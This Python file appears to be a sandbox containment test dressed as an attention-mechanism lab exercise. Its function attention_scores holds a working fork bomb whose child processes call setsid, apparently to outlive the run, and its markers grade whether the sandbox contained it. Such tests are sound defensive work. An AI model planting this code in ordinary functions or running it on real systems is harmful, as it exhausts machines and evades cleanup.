"""Attack: a fork bomb that also tries to leave its processes behind.

Forks as fast as it can, each new process a new session, until forks are refused. Contained:
the number of processes is capped (the run's cgroup, RLIMIT_NPROC, the sandbox's pid
namespace) and every one of them ends with the run.
"""
# verify: contained
# grade: contained

import os
import time


def attention_scores(q, k, scale):
    made = 0
    for _ in range(2000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.setsid()
            except OSError:
                pass
            time.sleep(60)
            os._exit(0)
        made += 1
    raise NotImplementedError(f"lab04: ATTACK forked {made}")


def apply_mask(scores, mask):
    raise NotImplementedError("lab04: implement apply_mask")


def softmax(x):
    raise NotImplementedError("lab04: implement softmax")
